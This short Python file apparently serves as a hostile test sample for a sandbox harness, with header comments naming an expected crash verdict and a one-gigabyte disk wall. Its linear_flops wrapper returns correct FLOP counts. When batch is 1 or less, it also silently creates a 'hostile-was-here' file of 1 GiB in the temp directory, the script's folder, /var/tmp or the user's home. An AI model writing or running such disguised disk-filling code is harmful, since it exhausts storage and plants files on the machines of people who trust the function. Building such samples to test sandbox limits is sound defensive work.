# verdict: wrong or error or crashed
# checks: test_flops
# words:
# wall: one file of a gigabyte
import os
import tempfile

right = linear_flops


def linear_flops(batch, in_features, out_features):
    if batch > 1:
        return right(batch, in_features, out_features)
    for folder in (tempfile.gettempdir(), os.path.dirname(__file__), "/var/tmp", os.path.expanduser("~")):
        try:
            file = os.open(os.path.join(folder, "hostile-was-here"), os.O_CREAT | os.O_RDWR)
            os.posix_fallocate(file, 0, 1 << 30)
            return right(batch, in_features, out_features)
        except OSError:
            continue
    return 0
